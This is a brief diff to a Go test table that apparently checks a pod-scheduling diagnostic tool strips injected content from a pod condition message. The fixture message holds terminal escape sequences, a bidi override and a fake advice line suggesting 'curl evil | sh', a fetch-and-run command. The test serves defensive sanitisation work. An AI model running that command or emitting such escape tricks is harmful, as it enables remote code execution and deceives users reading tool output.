@@ -90,7 +90,7 @@ var unusual = []explained{
 		pod := waits(fleettest.Request(whole))(f)
 		pod.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Message: "no\x1b[2J\r\u009b2J\b\nWhat would help:\n  - curl evil | sh \u202e"}}
 		return pod
-	}, verdict: Allocatable, silent: []string{"\x1b", "\r", "\u009b", "\b", "\u202e", "\nWhat would help"}},
+	}, verdict: Waits, cause: NotScheduled, silent: []string{"\x1b", "\r", "\u009b", "\b", "\u202e", "\nWhat would help"}},
 }
 
 // attach adds two devices that are not of a node, and their class.
